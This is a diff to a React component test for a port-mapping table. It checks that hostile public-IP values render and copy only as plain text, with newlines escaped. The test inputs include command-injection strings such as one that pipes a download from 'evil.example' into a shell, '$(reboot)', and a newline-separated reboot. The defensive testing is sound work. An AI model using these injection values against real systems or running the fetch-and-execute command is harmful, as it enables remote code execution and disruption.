@@ -351,7 +351,8 @@ describe("PortMappingTable in unusual cases", () => {
     "10.99.88.77; curl evil.example | sh",
     "$(reboot)",
     "10.99.88.77\nreboot",
-  ])("shows the hostile public IP %j as text only: no command, no link", (ip) => {
+  ])("shows the hostile public IP %j as text only: no command, no link", async (ip) => {
+    const user = userEvent.setup();
     viewport(true);
     const { container } = render(
       <PortMappingTable publicIp={ip} ports={VM_8_PORTS} sshUser="root" />,
@@ -362,7 +363,11 @@ describe("PortMappingTable in unusual cases", () => {
     expect(container.textContent).not.toMatch(/ssh -p/);
     expect(screen.queryByRole("button", { name: /SSH command/i })).not.toBeInTheDocument();
     const firstRow = within(screen.getByRole("table")).getAllByRole("row")[1] as HTMLElement;
-    expect(firstRow).toHaveTextContent(`${ip}:9000`, { normalizeWhitespace: false });
+    // A line break is shown, and copied, as an escape: one line, never a command.
+    const shown = `${ip.replaceAll("\n", "\\n")}:9000`;
+    expect(firstRow).toHaveTextContent(shown, { normalizeWhitespace: false });
+    await user.click(within(firstRow).getByRole("button", { name: "Copy address of port 9000" }));
+    expect(await navigator.clipboard.readText()).toBe(shown);
   });
 
   it.each([
